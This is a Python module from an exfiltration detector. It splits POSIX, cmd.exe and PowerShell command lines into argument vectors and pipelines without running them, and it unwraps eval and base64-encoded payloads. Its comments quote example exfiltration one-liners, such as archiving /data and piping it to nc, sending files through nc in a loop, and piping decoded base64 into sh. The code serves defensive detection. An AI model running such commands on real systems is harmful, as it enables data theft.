"""Command lines into argument vectors and shell pipelines, without ever running them.

Attackers hide the interesting command inside a wrapper (`sh -c "tar czf - /data | nc x 4444"`,
`cmd.exe /c "rar a ..."`, `powershell -enc ...`), so the detector analyses each command of the
pipeline a wrapper carries, remembering what is piped or redirected into it. Command lines are
attacker-controlled text: they are only tokenised here, never interpreted by a shell.
"""

from __future__ import annotations

import base64
import binascii
import re
from collections.abc import Collection
from dataclasses import dataclass, field
from functools import lru_cache

# One binary, many tools, chosen by argv[0] or the first argument (`busybox tar`, `toybox tar`).
MULTICALL = frozenset({"busybox", "toybox"})
_VERSIONED = re.compile(r"^(python|pypy|pwsh)[\d.]*$")
_OPERATORS = frozenset({"|", "||", "&&", ";", "&", ";;", "|&", "\n"})
_MAX_PAYLOAD = 64 * 1024  # longer wrapper payloads are cut: enough for any real one-liner
# Longer command lines are analysed up to here (Linux's own limit for one argument is 128 KiB,
# and a 2 MB line is an attack on the analyser, not a command); signals say when they were cut.
MAX_COMMAND = 256 * 1024
MAX_SCRIPT = 64 * 1024  # script text the catalog's patterns search (each repetition is bounded)


@lru_cache(maxsize=8192)
def exe_name(path: str | None) -> str:
    """Executable name as the catalog spells it: basename, lower case, no .exe, no version."""
    if not path:
        return ""
    path = path.strip('"')
    cut = max(path.rfind("/"), path.rfind("\\"))
    name = path[cut + 1 :].lower()
    if name.endswith(".exe"):
        name = name[:-4]
    versioned = _VERSIONED.match(name)
    return versioned.group(1) if versioned else name


_DRIVE = re.compile(r"(?:^|[\s\"'=])[A-Za-z]:\\")


def looks_windows(cmd_line: str, path: str | None) -> bool:
    """Windows command lines keep backslashes literal, so they must not go through shlex."""
    head = (path or cmd_line)[:260]
    return "\\" in head or head.lower().endswith(".exe") or bool(_DRIVE.search(cmd_line))


def split_posix(text: str) -> list[str]:
    """argv as `shlex.split` gives it (no comments, no operators), in linear time."""
    words = tokenize(text[:MAX_COMMAND], operators=False)
    return text[:MAX_COMMAND].split() if words is None else words


_PUNCTUATION = frozenset(";&|<>")
_BLANK = frozenset(" \t\r\n")


def tokenize(text: str, operators: bool) -> list[str] | None:
    """Shell words in one pass over the text (shlex builds each word by string concatenation:
    quadratic in its length, 40 s of CPU for one 2 MB argument).

    POSIX quoting: single quotes are literal, a backslash escapes the next character, and inside
    double quotes only `\\"` and `\\\\` are escapes. With ``operators``, runs of `;&|<>` and
    unquoted newlines are tokens of their own and a `#` that starts a word starts a comment, as
    in a shell (shlex also ends a word at a `#` inside it, hiding what follows). None for an
    unbalanced quote or a trailing backslash, which no shell would run."""
    words: list[str] = []
    word: list[str] = []
    started = False  # a word is open (`""` is a word of its own)
    index, end = 0, len(text)
    while index < end:
        char = text[index]
        index += 1
        if char in _BLANK:
            if started:
                words.append("".join(word))
                word, started = [], False
            if operators and char == "\n":
                words.append("\n")
        elif char == "'":
            close = text.find("'", index)
            if close < 0:
                return None
            word.append(text[index:close])
            index, started = close + 1, True
        elif char == '"':
            closed = _double_quoted(text, index, word)
            if closed is None:
                return None
            index, started = closed, True
        elif char == "\\":
            if index >= end:
                return None
            word.append(text[index])
            index, started = index + 1, True
        elif operators and char in _PUNCTUATION:
            if started:
                words.append("".join(word))
                word, started = [], False
            stop = index
            while stop < end and text[stop] in _PUNCTUATION:
                stop += 1
            words.append(text[index - 1 : stop])
            index = stop
        elif operators and char == "#" and not started:
            newline = text.find("\n", index)
            index = end if newline < 0 else newline
        else:
            word.append(char)
            started = True
    if started:
        words.append("".join(word))
    return words


def _double_quoted(text: str, index: int, word: list[str]) -> int | None:
    """Append a double-quoted string's characters (from after its opening quote) to word;
    the index after its closing quote, or None when it never closes."""
    end = len(text)
    while index < end:
        char = text[index]
        index += 1
        if char == '"':
            return index
        if char == "\\" and index < end and text[index] in '"\\':
            char = text[index]
            index += 1
        word.append(char)
    return None


def split_windows(text: str) -> list[str]:
    """CommandLineToArgvW's rules: double quotes group; backslashes are literal except before a
    double quote, where 2n of them give n and the quote groups, 2n+1 give n and a literal quote
    (`-Command "Compress-Archive -DestinationPath \\"$out\\x.zip\\""` keeps its quotes)."""
    args: list[str] = []
    current: list[str] = []
    quoted = False
    started = False
    slashes = 0
    for char in text:
        if char == "\\":
            slashes += 1
            started = True
            continue
        if char == '"':
            current.append("\\" * (slashes // 2))
            if slashes % 2:
                current.append('"')
            else:
                quoted = not quoted
            slashes = 0
            started = True
            continue
        if slashes:
            current.append("\\" * slashes)
            slashes = 0
        if char in " \t" and not quoted:
            if started:
                args.append("".join(current))
                current, started = [], False
        else:
            current.append(char)
            started = True
    if slashes:
        current.append("\\" * slashes)
    if started:
        args.append("".join(current))
    return args


def split_command(cmd_line: str, path: str | None) -> list[str]:
    """The argv of a command line (its first MAX_COMMAND characters). The same short lines recur
    constantly, so their splits are cached; long ones are not, or 8192 of them would pin
    gigabytes."""
    if len(cmd_line) > _CACHED_LENGTH:
        return list(_split(cmd_line[:MAX_COMMAND], path))
    return list(_split_cached(cmd_line, path))


_CACHED_LENGTH = 4096


def _split(cmd_line: str, path: str | None) -> tuple[str, ...]:
    if looks_windows(cmd_line, path):
        return tuple(split_windows(cmd_line))
    return tuple(split_posix(cmd_line))


_split_cached = lru_cache(maxsize=8192)(_split)


@dataclass(slots=True)
class Command:
    """One simple command of a pipeline, with what feeds it."""

    argv: list[str]
    stdin_file: str | None = None
    piped_in: bool = False
    stdout_file: str | None = None
    piped_out: bool = False
    upstream: list[str] = field(default_factory=list)  # argv of the command piping into this one


def parse_posix_pipeline(text: str, depth: int = 0) -> list[Command]:
    """The commands of a shell payload, with what a shell would resolve before running them:
    a variable set earlier in it (`T=tar; $T czf ...`), the text of `eval`, and a script that
    `echo <base64> | base64 -d | sh` decodes (nested payloads: MAX_NESTING deep)."""
    return _resolve(_parse_posix(text), depth)


def _parse_posix(text: str) -> list[Command]:
    tokens = tokenize(text[:_MAX_PAYLOAD], operators=True)
    if tokens is None:
        tokens = text[:_MAX_PAYLOAD].split()
    commands: list[Command] = []
    current = Command(argv=[])
    pending_redirect: str | None = None
    for token in tokens:
        if pending_redirect is not None:
            if pending_redirect == "<":
                current.stdin_file = token
            else:
                current.stdout_file = token
            pending_redirect = None
        elif token in ("<", ">", ">>", "<<", "<<<", "&>", ">&", "2>", "1>"):
            pending_redirect = "<" if token.startswith("<") else ">"
        elif token in _OPERATORS:
            piped = token in ("|", "|&")
            current.piped_out = piped
            if current.argv:
                commands.append(current)
            current = Command(argv=[], piped_in=piped, upstream=current.argv if piped else [])
        else:
            current.argv.append(token)
    if current.argv:
        commands.append(current)
    return commands


MAX_NESTING = 2  # eval and decoded scripts inside a payload, read this many levels deep
MAX_VARIABLES = 64
_VARIABLE_WORD = re.compile(r"^\$(?:\{([A-Za-z_][A-Za-z0-9_]*)\}|([A-Za-z_][A-Za-z0-9_]*))$")
_STDIN_SHELLS = frozenset({"sh", "bash", "dash", "ash", "zsh", "ksh", "mksh"})
_BASE64_DECODE = frozenset({"-d", "--decode", "-D"})


def _resolve(commands: list[Command], depth: int) -> list[Command]:
    variables: dict[str, str] = {}
    out: list[Command] = []
    for command in commands:
        for word in command.argv:  # leading NAME=value words (alone, they set a variable)
            name, equals, value = word.partition("=")
            if not equals or not _ASSIGNMENT.match(word):
                break
            if len(variables) < MAX_VARIABLES:
                variables[name] = value
        argv = strip_prefixes(command.argv)
        argv = [_substitute(word, variables) for word in argv]
        command.argv = [word for word in argv if word]
        if depth < MAX_NESTING and command.argv[:1] == ["eval"]:
            out.extend(parse_posix_pipeline(" ".join(command.argv[1:]), depth + 1))
            continue
        decoded = _decoded_script(command, out) if depth < MAX_NESTING else None
        if decoded is not None:
            out.extend(parse_posix_pipeline(decoded, depth + 1))
            continue
        out.append(command)
    return out


def _substitute(word: str, variables: dict[str, str]) -> str:
    match = _VARIABLE_WORD.match(word) if word.startswith("$") else None
    if match is None:
        return word
    return variables.get(match.group(1) or match.group(2), word)


def _decoded_script(command: Command, before: list[Command]) -> str | None:
    """The script `echo <base64> | base64 -d | sh` runs, where the base64 is written out."""
    if not command.piped_in or len(before) < 2 or len(command.argv) > 2:
        return None
    if exe_name(command.argv[0]) not in _STDIN_SHELLS or command.argv[1:] not in ([], ["-s"]):
        return None
    decoder, source = before[-1].argv, before[-2].argv
    if not decoder or exe_name(decoder[0]) != "base64" or _BASE64_DECODE.isdisjoint(decoder):
        return None
    if not source or exe_name(source[0]) not in ("echo", "printf"):
        return None
    words = [word for word in source[1:] if not word.startswith("-")]
    if exe_name(source[0]) == "printf" and len(words) > 1 and "%" in words[0]:
        words = words[1:]  # `printf %s <base64>`: the format is not the text
    text = "".join(words)
    try:
        return base64.b64decode(text[:_MAX_PAYLOAD], validate=False).decode("utf-8", "replace")
    except (binascii.Error, ValueError):
        return None


# Words that start a shell command without being it: `for f in x; do nc h 1 < "$f"; done`,
# `if tar czf a /d; then ...`, `FOO=1 exec tar ...`. Programs that run a command (nohup, nice,
# env, sudo...) are the catalog's launchers, read with their options by the detector.
_KEYWORDS = frozenset(
    {"if", "then", "else", "elif", "do", "while", "until", "!", "{", "(", "time", "exec",
     "command", "builtin"}
)  # fmt: skip


def strip_prefixes(argv: list[str]) -> list[str]:
    """The command a shell runs, without shell keywords and variable assignments."""
    index = 0
    while index < len(argv) and (argv[index] in _KEYWORDS or _ASSIGNMENT.match(argv[index])):
        index += 1
    return argv[index:]


_ASSIGNMENT = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")


def launched(
    argv: list[str],
    value_short: str = "",
    value_long: Collection[str] = (),
    operands: int = 0,
    assignments: bool = False,
) -> list[str]:
    """The command a launcher (`nice -n 5 tar ...`, `timeout -s KILL 60 curl ...`) runs: argv
    after the launcher's options, operands and NAME=VALUE words; [] when there is none."""
    index, options = 1, True
    while index < len(argv):
        arg = argv[index]
        if options and arg == "--":
            options = False
            index += 1
        elif options and arg.startswith("--"):
            name, eq, _ = arg.partition("=")
            index += 2 if not eq and name in value_long else 1
        elif options and arg.startswith("-") and len(arg) > 1:
            letters = arg[1:]
            taking = next((at for at, letter in enumerate(letters) if letter in value_short), None)
            # a value letter takes the rest of its cluster, or the next argument when last
            index += 2 if taking is not None and taking == len(letters) - 1 else 1
        elif assignments and _ASSIGNMENT.match(arg):
            index += 1
        elif operands > 0:
            operands -= 1
            index += 1
        else:
            return argv[index:]
    return []


def parse_cmd_pipeline(text: str) -> list[Command]:
    """cmd.exe: split on & && || | outside double quotes."""
    parts = _split_cmd_operators(text[:_MAX_PAYLOAD])
    commands: list[Command] = []
    piped = False
    upstream: list[str] = []
    for index in range(0, len(parts), 2):
        argv = split_windows(parts[index].strip())
        operator = parts[index + 1] if index + 1 < len(parts) else ""
        stdin_file = None
        if "<" in argv:
            at = argv.index("<")
            stdin_file = argv[at + 1] if at + 1 < len(argv) else None
            argv = argv[:at]
        if argv:
            commands.append(
                Command(argv, stdin_file, piped, None, operator == "|", upstream if piped else [])
            )
        piped, upstream = operator == "|", argv
    return commands


def _split_cmd_operators(text: str) -> list[str]:
    """[command, operator, command, ...] in one pass (a look-ahead regex for "outside quotes"
    rescans the rest of the text at every operator: quadratic)."""
    parts: list[str] = []
    start = index = 0
    quoted = False
    while index < len(text):
        char = text[index]
        if char == '"':
            quoted = not quoted
        elif char in "|&" and not quoted:
            operator = text[index : index + 2] if text[index : index + 2] in ("||", "&&") else char
            parts += [text[start:index], operator]
            index += len(operator)
            start = index
            continue
        index += 1
    parts.append(text[start:])
    return parts


def cmd_payload(cmd_line: str) -> str | None:
    """The command string of `cmd.exe /c ...` from the raw command line (quotes kept)."""
    match = re.search(r"(?i)(?:^|\s)/[ck]\s*", cmd_line)
    if not match:
        return None
    payload = cmd_line[match.end() :].strip()
    if len(payload) >= 2 and payload[0] == '"' and payload[-1] == '"':
        payload = payload[1:-1]
    return payload


_PS_COMMAND = frozenset({"-command", "-c", "-com", "-comm", "/c", "/command"})
_PS_ENCODED = frozenset({"-encodedcommand", "-enc", "-e", "-ec", "-en", "/enc", "/encodedcommand"})


def powershell_payload(argv: list[str]) -> str | None:
    """The script text of `powershell -Command ...` or `-EncodedCommand <base64 UTF-16LE>`."""
    for index, arg in enumerate(argv[1:], start=1):
        lowered = arg.lower()
        if lowered in _PS_ENCODED and index + 1 < len(argv):
            try:
                return base64.b64decode(argv[index + 1], validate=False).decode("utf-16-le")
            except (binascii.Error, UnicodeDecodeError, ValueError):
                return None
        if lowered in _PS_COMMAND:
            return " ".join(argv[index + 1 :])
    if len(argv) > 1 and not argv[1].startswith(("-", "/")):
        return " ".join(argv[1:])  # `powershell Compress-Archive ...`: the command is positional
    return None


def posix_payload(argv: list[str]) -> str | None:
    """The command string of `sh -c '...'` (also `bash -lc`, `busybox sh -c`)."""
    args = argv[1:]
    if args and exe_name(argv[0]) in MULTICALL and args[0] in ("sh", "ash", "bash"):
        args = args[1:]
    for index, arg in enumerate(args):
        if arg.startswith("-") and not arg.startswith("--") and "c" in arg[1:]:
            rest = args[index + 1 :]
            if len(rest) > 1 and " " not in rest[0]:
                # Producers that join argv unquoted (Falco's proc.cmdline, Docker's exec
                # action) turn `sh -c "nc h 1 < f"` into words: the payload is all of them.
                return " ".join(rest)
            return rest[0] if rest else None
        if not arg.startswith("-"):
            return None
    return None
